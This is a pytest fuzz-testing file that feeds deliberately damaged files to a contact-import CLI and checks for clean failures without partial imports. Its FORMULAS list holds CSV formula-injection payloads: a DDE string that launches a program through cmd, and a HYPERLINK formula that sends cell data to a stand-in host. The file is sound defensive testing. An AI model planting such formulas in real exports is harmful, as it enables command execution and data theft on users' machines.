"""Bad input, tried at scale, through the real CLI.

Every importer gets real files (``tests/data/``, the LinkedIn layouts and edge lists and
calendar in ``../shared/data/``) damaged in the ways real files get damaged: truncated,
bytes flipped, NUL bytes, columns dropped or duplicated, other encodings, huge fields,
formula-looking cells, shuffled or duplicated lines, broken zips. For each one the outcome
must be one of two:

* a clean import (exit 0), or
* exactly one line ``helpnext: error: ...`` on stderr, a non-zero exit, and the store
  exactly as it was (every table's row count unchanged: never a partial import).

"internal error" (an exception that escaped the importer) and a traceback both fail.

The mutation helpers here are also used by ``benchmarks/bench_fuzz_importers.py``, which
runs many more inputs per importer and prints the outcome counts.
"""

from __future__ import annotations

import csv
import gzip
import importlib.util
import io
import random
import re
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipelines.ingest.linkedin.files import KNOWN_FILES

TESTS = Path(__file__).resolve().parent
REPO = TESTS.parent
TEST_DATA = TESTS / "data"
SHARED = REPO.parent / "shared" / "data"
ME = "me@example.com"

# -- the importers and their seed inputs ------------------------------------------------------


@dataclass
class Seed:
    """One real input: its files (relative path -> bytes), the file(s) to damage, and how
    the CLI is called on it once written to a folder."""

    importer: str
    name: str
    files: dict[str, bytes] = field(repr=False)
    targets: list[str]
    args: Callable[[Path], list[str]] = field(repr=False)
    zipped: bool = False  # files[targets[0]] is a zip whose members get damaged
    extra: dict = field(default_factory=dict, repr=False)


# importer -> module that must exist for its command to be tested
MODULES = {
    "linkedin": "pipelines.ingest.linkedin.export",
    "csv": "pipelines.ingest.generic_csv",
    "edges": "pipelines.ingest.edges",
    "mbox": "pipelines.ingest.mbox",
    "maildir": "pipelines.ingest.mbox",
    "ics": "pipelines.ingest.ics",
    "vcard": "pipelines.ingest.vcard",
    "google-contacts": "pipelines.ingest.google_contacts",
}
IMPORTERS = list(MODULES)


def available(importer: str) -> bool:
    return importlib.util.find_spec(MODULES[importer]) is not None


def _folder_files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _linkedin_seeds() -> list[Seed]:
    seeds = []
    folders = [p for p in sorted((TEST_DATA / "linkedin").iterdir()) if p.is_dir()]
    skeletons = SHARED / "linkedin-formats"
    if skeletons.is_dir():
        folders += [p for p in sorted(skeletons.iterdir()) if p.is_dir()]
    for folder in folders:
        files = _folder_files(folder)
        known = [n for n in files if n.casefold() in KNOWN_FILES]
        if known:
            seeds.append(
                Seed(
                    "linkedin",
                    folder.name,
                    files,
                    known,
                    lambda d: ["import", "linkedin", str(d / "export")],
                    extra={"subdir": "export"},
                )
            )
    sample = REPO / "data" / "sample" / "linkedin-export-2023-06.zip"
    if sample.exists():
        seeds.append(
            Seed(
                "linkedin",
                sample.name,
                {sample.name: sample.read_bytes()},
                [sample.name],
                lambda d, n=sample.name: ["import", "linkedin", str(d / n)],
                zipped=True,
            )
        )
    return seeds


def _single(importer: str, path: Path, extra_args: list[str] = ()) -> Seed:
    name = path.name
    return Seed(
        importer,
        f"{path.parent.name}/{name}",
        {name: path.read_bytes()},
        [name],
        lambda d, n=name: ["import", importer, str(d / n), *extra_args],
    )


def _maildir_seeds() -> list[Seed]:
    root = TEST_DATA / "maildir" / "mutt"
    files = {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.name != ".keep"
    }
    return [
        Seed(
            "maildir",
            "maildir/mutt",
            files,
            sorted(files),
            lambda d: ["import", "maildir", str(d), "--me", ME],
        )
    ]


def _edge_seeds() -> list[Seed]:
    seeds = [_single("edges", p) for p in sorted((TEST_DATA / "edges").iterdir())]
    dept3 = SHARED / "interactions" / "email-Eu-core-temporal-Dept3.txt"
    if dept3.exists():
        head = b"".join(dept3.read_bytes().splitlines(keepends=True)[:400])
        seeds.append(
            Seed(
                "edges", "Dept3-head", {"dept3.txt": head}, ["dept3.txt"], _edges_args("dept3.txt")
            )
        )
        if not KNOWN_BUG_GZIP:
            seeds.append(_gzip_seed(head))
    return seeds


# pipelines/ingest/edges.py once let zlib.error escape from a damaged .gz as "internal
# error" (found here); fixed. Set to True to keep gzip seeds out of the general runs.
KNOWN_BUG_GZIP = False


def _gzip_seed(head: bytes) -> Seed:
    return Seed(
        "edges",
        "Dept3-head.gz",
        {"dept3.txt.gz": gzip.compress(head, mtime=0)},
        ["dept3.txt.gz"],
        _edges_args("dept3.txt.gz"),
    )


def _edges_args(name: str) -> Callable[[Path], list[str]]:
    return lambda d: ["import", "edges", str(d / name)]


def _csv_seeds() -> list[Seed]:
    folder = TEST_DATA / "csv"
    files = _folder_files(folder)
    return [
        Seed(
            "csv",
            "contacts+interactions",
            files,
            sorted(files),
            lambda d: [
                "import",
                "csv",
                "--contacts",
                str(d / "contacts.csv"),
                "--interactions",
                str(d / "interactions.csv"),
            ],
        )
    ]


def seeds_for(importer: str) -> list[Seed]:
    if importer == "linkedin":
        return _linkedin_seeds()
    if importer == "csv":
        return _csv_seeds()
    if importer == "edges":
        return _edge_seeds()
    me = ["--me", ME]
    if importer == "maildir":
        return _maildir_seeds()
    if importer == "mbox":
        return [_single("mbox", p, me) for p in sorted((TEST_DATA / "mbox").glob("*.mbox"))]
    if importer == "ics":
        paths = sorted((TEST_DATA / "ics").glob("*.ics"))
        cal = SHARED / "calendar" / "almanack_basic_google_calendar_2010.ics"
        if cal.exists():
            paths.append(cal)
        return [_single("ics", p, me) for p in paths]
    if importer == "vcard":
        return [_single("vcard", p) for p in sorted((TEST_DATA / "vcard").glob("*.vcf"))]
    if importer == "google-contacts":
        return [_single("google-contacts", p) for p in sorted((TEST_DATA / "google").glob("*.csv"))]
    raise KeyError(importer)


# -- damage ------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+33 1 23 45",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]


def _lines(data: bytes) -> list[bytes]:
    return data.splitlines(keepends=True) or [data]


def _csv_rows(data: bytes) -> list[list[str]] | None:
    try:
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
    except (UnicodeDecodeError, csv.Error):
        return None
    if len(rows) < 1 or max(len(r) for r in rows) < 2:
        return None
    return rows


def _csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def m_truncate(data: bytes, rng: random.Random, size: int) -> bytes:
    return data[: rng.randrange(len(data) + 1)] if data else data


def m_truncate_mid_line(data: bytes, rng: random.Random, size: int) -> bytes:
    lines = _lines(data)
    keep = rng.randrange(1, len(lines) + 1)
    last = lines[keep - 1]
    return b"".join(lines[: keep - 1]) + last[: max(1, len(last) // 2)]


def m_flip(data: bytes, rng: random.Random, size: int) -> bytes:
    if not data:
        return data
    buf = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        i = rng.randrange(len(buf))
        buf[i] ^= rng.randint(1, 255)
    return bytes(buf)


def m_nul(data: bytes, rng: random.Random, size: int) -> bytes:
    i = rng.randrange(len(data) + 1)
    return data[:i] + b"\x00" * rng.randint(1, 4) + data[i:]


def m_drop_column(data: bytes, rng: random.Random, size: int) -> bytes:
    rows = _csv_rows(data)
    if rows is None:  # not a table: drop a line instead
        lines = _lines(data)
        del lines[rng.randrange(len(lines))]
        return b"".join(lines)
    col = rng.randrange(len(rows[0]))
    return _csv_bytes([r[:col] + r[col + 1 :] for r in rows])


def m_duplicate_column(data: bytes, rng: random.Random, size: int) -> bytes:
    rows = _csv_rows(data)
    if rows is None:  # duplicate a line instead
        lines = _lines(data)
        i = rng.randrange(len(lines))
        return b"".join(lines[: i + 1] + lines[i:])
    col = rng.randrange(len(rows[0]))
    return _csv_bytes([r[: col + 1] + r[col:] for r in rows])


def m_shuffle_columns(data: bytes, rng: random.Random, size: int) -> bytes:
    rows = _csv_rows(data)
    if rows is None:
        return m_shuffle_lines(data, rng, size)
    order = list(range(len(rows[0])))
    rng.shuffle(order)
    return _csv_bytes([[r[i] if i < len(r) else "" for i in order] for r in rows])


def m_shuffle_lines(data: bytes, rng: random.Random, size: int) -> bytes:
    lines = _lines(data)
    head, body = lines[:1], lines[1:]
    rng.shuffle(body)
    return b"".join(head + body)


def m_duplicate_lines(data: bytes, rng: random.Random, size: int) -> bytes:
    lines = _lines(data)
    picks = [rng.randrange(len(lines)) for _ in range(rng.randint(1, 5))]
    return b"".join(
        lines + [lines[i] if lines[i].endswith(b"\n") else lines[i] + b"\n" for i in picks]
    )


def m_latin1(data: bytes, rng: random.Random, size: int) -> bytes:
    text = data.decode("utf-8", errors="replace").replace("\ufffd", "?")
    return (text + "\nZoë Müller, café\n").encode("latin-1", errors="replace")


def m_cp1252_cell(data: bytes, rng: random.Random, size: int) -> bytes:
    lines = _lines(data)
    i = rng.randrange(len(lines))
    lines[i] = lines[i].rstrip(b"\r\n") + "Müller".encode("cp1252") + b"\n"
    return b"".join(lines)


def m_utf16(data: bytes, rng: random.Random, size: int) -> bytes:
    text = data.decode("utf-8", errors="replace")
    return text.encode(rng.choice(["utf-16", "utf-16-le", "utf-16-be"]))


def m_huge_field(data: bytes, rng: random.Random, size: int) -> bytes:
    lines = _lines(data)
    i = rng.randrange(min(len(lines), 8), len(lines) + 1) if len(lines) > 1 else 0
    i = min(i, len(lines) - 1)
    blob = ("x" * size).encode() if rng.random() < 0.5 else b'"' + b"y" * size + b'"'
    line = lines[i]
    cut = line.find(b",") + 1 if b"," in line else len(line.rstrip(b"\r\n"))
    lines[i] = line[:cut] + blob + line[cut:]
    return b"".join(lines)


def m_huge_line(data: bytes, rng: random.Random, size: int) -> bytes:
    return data + b"\n" + b"z" * size + b"\n"


def m_formula_cells(data: bytes, rng: random.Random, size: int) -> bytes:
    rows = _csv_rows(data)
    if rows is None or len(rows) < 2:
        lines = _lines(data)
        i = rng.randrange(len(lines))
        f = rng.choice(FORMULAS).encode()
        lines[i] = f + b" " + lines[i]
        return b"".join(lines)
    for _ in range(rng.randint(1, 6)):
        r = rng.randrange(1, len(rows))
        if rows[r]:
            rows[r][rng.randrange(len(rows[r]))] = rng.choice(FORMULAS)
    return _csv_bytes(rows)


def m_line_endings(data: bytes, rng: random.Random, size: int) -> bytes:
    if b"\r\n" in data:
        return data.replace(b"\r\n", b"\n" if rng.random() < 0.5 else b"\r")
    return data.replace(b"\n", b"\r\n")


def m_empty(data: bytes, rng: random.Random, size: int) -> bytes:
    return rng.choice([b"", b"\n", b"   \r\n\r\n", b"\xef\xbb\xbf"])


def m_header_only(data: bytes, rng: random.Random, size: int) -> bytes:
    return b"".join(_lines(data)[: rng.randint(1, 4)])


def m_garbage(data: bytes, rng: random.Random, size: int) -> bytes:
    junk = bytes(rng.randrange(256) for _ in range(rng.randint(1, 512)))
    i = rng.randrange(len(data) + 1)
    return data[:i] + junk + data[i:]


def m_binary(data: bytes, rng: random.Random, size: int) -> bytes:
    return rng.choice([b"\x89PNG\r\n\x1a\n" + bytes(200), b"PK\x03\x04" + bytes(100), b"\x1f\x8b"])


def m_quote(data: bytes, rng: random.Random, size: int) -> bytes:
    """An unbalanced quote, the classic broken CSV."""
    lines = _lines(data)
    i = rng.randrange(len(lines))
    j = rng.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:j] + b'"' + lines[i][j:]
    return b"".join(lines)


_YEAR = re.compile(rb"(?<![0-9])(?:19|20)[0-9]{2}(?![0-9])")


def m_hostile_dates(data: bytes, rng: random.Random, size: int) -> bytes:
    """Dates no later command could read, or that make no sense (issue 18): years 0000,
    1900, 2099, 9999 in place of some years; where there are none (an edge list), a
    timestamp of 1e14 or 99999999999999999999 as some line's last field."""
    years = list(_YEAR.finditer(data))
    if years:
        out = bytearray(data)
        for found in sorted(rng.sample(years, min(3, len(years))), key=lambda m: -m.start()):
            out[found.start() : found.end()] = rng.choice([b"0000", b"1900", b"2099", b"9999"])
        return bytes(out)
    lines = _lines(data)
    i = rng.randrange(len(lines))
    fields = lines[i].rstrip(b"\r\n").rsplit(b" ", 1)
    hostile = rng.choice([b"1e14", b"99999999999999999999"])
    lines[i] = (fields[0] + b" " + hostile if len(fields) == 2 else hostile) + b"\n"
    return b"".join(lines)


MUTATIONS: dict[str, Callable[[bytes, random.Random, int], bytes]] = {
    "truncate": m_truncate,
    "truncate_mid_line": m_truncate_mid_line,
    "flip": m_flip,
    "nul": m_nul,
    "drop_column": m_drop_column,
    "duplicate_column": m_duplicate_column,
    "shuffle_columns": m_shuffle_columns,
    "shuffle_lines": m_shuffle_lines,
    "duplicate_lines": m_duplicate_lines,
    "latin1": m_latin1,
    "cp1252_cell": m_cp1252_cell,
    "utf16": m_utf16,
    "huge_field": m_huge_field,
    "huge_line": m_huge_line,
    "formula_cells": m_formula_cells,
    "line_endings": m_line_endings,
    "empty": m_empty,
    "header_only": m_header_only,
    "garbage": m_garbage,
    "binary": m_binary,
    "quote": m_quote,
    "hostile_dates": m_hostile_dates,
}


def _mutate_zip(data: bytes, mutation: str, rng: random.Random, size: int) -> bytes:
    """Damage a zip: the archive's bytes (truncate, flip, garbage) or one member's."""
    if mutation in ("truncate", "flip", "garbage", "nul", "empty", "binary"):
        return MUTATIONS[mutation](data, rng, size)
    source = zipfile.ZipFile(io.BytesIO(data))
    names = [n for n in source.namelist() if n.casefold().endswith(".csv")]
    victim = rng.choice(names)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == victim:
                body = MUTATIONS[mutation](body, rng, size)
            target.writestr(info.filename, body)
    return out.getvalue()


def materialise(
    seed: Seed, steps: list[tuple[str, int]], folder: Path, size: int = 200_000
) -> list[str]:
    """Write ``seed`` into ``folder`` with ``steps`` (mutation, rng seed) applied to one
    of its target files; return the CLI arguments that import it."""
    if folder.exists():
        shutil.rmtree(folder)
    base = folder / seed.extra.get("subdir", "")
    base.mkdir(parents=True)
    files = dict(seed.files)
    for mutation, number in steps:
        rng = random.Random(number)
        target = rng.choice(seed.targets)
        if seed.zipped:
            files[target] = _mutate_zip(files[target], mutation, rng, size)
        else:
            files[target] = MUTATIONS[mutation](files[target], rng, size)
    for name, body in files.items():
        (base / name).parent.mkdir(parents=True, exist_ok=True)
        (base / name).write_bytes(body)
    return seed.args(folder)


# -- the invariant ------------------------------------------------------------------------------


def store_counts(home: Path) -> dict[str, int]:
    """Row count of every table of the store in ``home`` ({} when there is no store)."""
    path = home / "helpnext.duckdb"
    if not path.exists():
        return {}
    con = duckdb.connect(str(path), read_only=True)
    try:
        names = [
            r[0]
            for r in con.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_schema = 'main' "
                "AND table_catalog = current_database() ORDER BY table_name"
            ).fetchall()
        ]
        if not names:
            return {}
        sql = "SELECT " + ", ".join(f'(SELECT count(*) FROM "{n}")' for n in names)
        return dict(zip(names, con.execute(sql).fetchone(), strict=True))
    finally:
        con.close()


def run_checked(runner: CliRunner, home: Path, args: list[str], before: dict | None = None):
    """Run ``helpnext --home HOME *args`` in-process and check the invariant. Returns
    ("ok" | "error", counts after, the error line or "")."""
    from recommender.cli.app import app

    if before is None:
        before = store_counts(home)
    result = runner.invoke(app, ["--home", str(home), *args], catch_exceptions=False)
    out, err = result.stdout, result.stderr
    after = store_counts(home)
    assert "Traceback" not in out + err, f"{args}: a traceback\n{err}"
    if result.exit_code == 0:
        return "ok", after, ""
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, f"{args}: expected one error line, got:\n{err}"
    line = lines[0]
    assert line.startswith("helpnext: error: "), f"{args}: {line}"
    assert "internal error" not in line, f"{args}: an exception escaped: {line}"
    assert after == before, f"{args}: failed but changed the store: {before} -> {after}"
    return "error", after, line


def baseline_home(importer: str, home: Path, runner: CliRunner) -> dict[str, int]:
    """A home holding the undamaged first seed of ``importer`` (so a partial import of a
    damaged file would show as changed counts), and its counts."""
    seed = seeds_for(importer)[0]
    args = materialise(seed, [], home.parent / f"{home.name}-seed")
    outcome, counts, line = run_checked(runner, home, args)
    assert outcome == "ok", line
    return counts


# -- the tests ----------------------------------------------------------------------------------

# a fixed, reproducible corpus: every mutation once per importer, on a seed picked by rng
CORPUS_MUTATIONS = list(MUTATIONS)


def _corpus(importer: str) -> list[tuple[Seed, str, int]]:
    seeds = seeds_for(importer)
    rng = random.Random(f"corpus-{importer}")
    return [(seeds[rng.randrange(len(seeds))], m, rng.randrange(1 << 30)) for m in CORPUS_MUTATIONS]


@pytest.mark.parametrize("importer", IMPORTERS)
def test_every_kind_of_damage_imports_cleanly_or_fails_with_one_line(importer, tmp_path):
    if not available(importer):
        pytest.importorskip(MODULES[importer])
    runner = CliRunner()
    home = tmp_path / "home"
    counts = baseline_home(importer, home, runner)
    outcomes = {"ok": 0, "error": 0}
    for n, (seed, mutation, number) in enumerate(_corpus(importer)):
        args = materialise(seed, [(mutation, number)], tmp_path / f"case{n}", size=50_000)
        outcome, counts, _ = run_checked(runner, home, args, counts)
        outcomes[outcome] += 1
    assert sum(outcomes.values()) == len(CORPUS_MUTATIONS)
    # whatever came in, every later command can read the store (a year 0 made them exit 70)
    for command in (["stats"], ["contacts"], ["today"], ["export", "--out", tmp_path / "out"]):
        run_checked(runner, home, [str(a) for a in command])
    if importer != "maildir":  # one damaged message file never fails a Maildir
        assert outcomes["error"] > 0  # the damage was real: some of it must be refused


def test_clear_errors_for_known_damage(tmp_path):
    """Known answers: what the error line says for typical damage."""
    runner = CliRunner()
    home = tmp_path / "home"
    bad = tmp_path / "contacts.csv"
    bad.write_bytes(b"contact_id,name\nc1,Dana\x00 Smith\n")
    outcome, _, line = run_checked(runner, home, ["import", "csv", "--contacts", str(bad)])
    assert outcome == "error"
    assert line == (
        f"helpnext: error: {bad}, line 2: contains NUL bytes: this looks like a binary or "
        "damaged file, not text"
    )
    # a Latin-1 / Windows-1252 re-save is detected (charset-normalizer), not refused
    bad.write_bytes("contact_id,name\nc1,Zoë\n".encode("latin-1"))
    outcome, _, line = run_checked(runner, home, ["import", "csv", "--contacts", str(bad)])
    assert outcome == "ok", line
    con = duckdb.connect(str(home / "helpnext.duckdb"), read_only=True)
    try:
        assert con.execute("SELECT display_name FROM contacts").fetchall() == [("Zoë",)]
    finally:
        con.close()
    sample = REPO / "data" / "sample" / "linkedin-export-2024-06.zip"
    cut = tmp_path / "cut.zip"
    cut.write_bytes(sample.read_bytes()[: len(sample.read_bytes()) // 2])
    outcome, _, line = run_checked(runner, home, ["import", "linkedin", str(cut)])
    assert outcome == "error" and str(cut) in line


def test_damaged_gzip_edge_list(tmp_path):
    edges = b"% 3\n" + b"".join(b"%d %d %d\n" % (i % 7, (i * 3) % 11, i * 60) for i in range(400))
    damaged = bytearray(gzip.compress(edges, mtime=0))
    damaged[20] ^= 0x55  # inside the deflate stream: the header still says gzip
    path = tmp_path / "log.txt.gz"
    path.write_bytes(bytes(damaged))
    outcome, _, line = run_checked(CliRunner(), tmp_path / "home", ["import", "edges", str(path)])
    assert outcome == "error" and str(path) in line


def test_formula_cells_are_stored_as_text(tmp_path):
    """A formula-looking name is data, kept verbatim (export neutralises it on the way out)."""
    runner = CliRunner()
    home = tmp_path / "home"
    contacts = tmp_path / "contacts.csv"
    contacts.write_text('contact_id,name,company\nc1,"=HYPERLINK(""http://x"",""y"")",@Acme\n')
    outcome, counts, line = run_checked(
        runner, home, ["import", "csv", "--contacts", str(contacts)]
    )
    assert outcome == "ok", line
    con = duckdb.connect(str(home / "helpnext.duckdb"), read_only=True)
    try:
        row = con.execute("SELECT display_name, company FROM contacts").fetchone()
    finally:
        con.close()
    assert row == ('=HYPERLINK("http://x","y")', "@Acme")


# hypothesis: stacks of 1-3 damages on any seed, per importer

STEPS = st.lists(
    st.tuples(st.sampled_from(list(MUTATIONS)), st.integers(0, 2**30)), min_size=1, max_size=3
)


@pytest.mark.parametrize("importer", IMPORTERS)
@settings(
    max_examples=6,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_stacked_damage_never_escapes(importer, tmp_path, data):
    if not available(importer):
        pytest.importorskip(MODULES[importer])
    seeds = seeds_for(importer)
    seed = data.draw(st.sampled_from(seeds), label="seed")
    steps = data.draw(STEPS, label="steps")
    runner = CliRunner()
    home = tmp_path / "home"
    args = materialise(seed, steps, tmp_path / "case", size=20_000)
    run_checked(runner, home, args)


CELL_TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)


@settings(
    max_examples=8,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    cells=st.lists(st.tuples(CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=5),
    dates=st.lists(CELL_TEXT | st.sampled_from(["2024-01-02", "6/18/24, 6:14 PM"]), min_size=1),
)
def test_any_cell_text_in_generic_csv(tmp_path, cells, dates):
    """Any text at all in any cell of contacts.csv / interactions.csv."""
    rows = [["contact_id", "name", "company"], *[list(c) for c in cells]]
    contacts = tmp_path / "contacts.csv"
    contacts.write_bytes(_csv_bytes(rows))
    interactions = tmp_path / "interactions.csv"
    irows = [["contact_id", "date", "direction"]]
    irows += [[cells[i % len(cells)][0], d, "out"] for i, d in enumerate(dates)]
    interactions.write_bytes(_csv_bytes(irows))
    runner = CliRunner()
    args = ["import", "csv", "--contacts", str(contacts), "--interactions", str(interactions)]
    run_checked(runner, tmp_path / "home", args)


def test_a_few_damaged_files_through_the_real_console_script(tmp_path):
    """The same invariant through a subprocess: the installed ``helpnext`` script."""
    import os
    import subprocess
    import sys

    home = tmp_path / "home"
    cases = []
    for importer, mutation in (("csv", "nul"), ("linkedin", "truncate")):
        seed = seeds_for(importer)[-1]
        cases.append(materialise(seed, [(mutation, 7)], tmp_path / f"{importer}-{mutation}"))
    env = {**os.environ, "HELPNEXT_HOME": str(home)}
    for args in cases:
        before = store_counts(home)
        proc = subprocess.run(
            [sys.executable, "-m", "recommender", *args],
            capture_output=True,
            text=True,
            env=env,
            timeout=120,
            cwd=REPO,
        )
        assert "Traceback" not in proc.stderr
        if proc.returncode != 0:
            lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
            assert len(lines) == 1 and lines[0].startswith("helpnext: error: "), proc.stderr
            assert "internal error" not in lines[0]
            assert store_counts(home) == before


def test_a_huge_field_is_an_unreadable_row_not_a_contact(tmp_path):
    """Found by benchmarks/bench_fuzz_importers.py (damage 'huge_line'): a 200 kB line of
    one field is a row with no name (skipped, by line); a 2 MB contact id is over the
    field cap (skipped); neither becomes a contact."""
    contacts = tmp_path / "contacts.csv"
    contacts.write_text(
        "contact_id,name\nc1,Dana\nc2,Bo\n\n" + "z" * 200_000 + "\n" + "y" * (2 << 20) + ",Ana\n"
    )
    home = tmp_path / "home"
    outcome, _, line = run_checked(
        CliRunner(), home, ["import", "csv", "--contacts", str(contacts)]
    )
    assert outcome == "ok", line
    con = duckdb.connect(str(home / "helpnext.duckdb"), read_only=True)
    try:
        names = [
            r[0] for r in con.execute("SELECT display_name FROM contacts ORDER BY 1").fetchall()
        ]
        longest = con.execute("SELECT max(length(key)) FROM identities").fetchone()[0]
    finally:
        con.close()
    assert names == ["Bo", "Dana"] and longest < 100
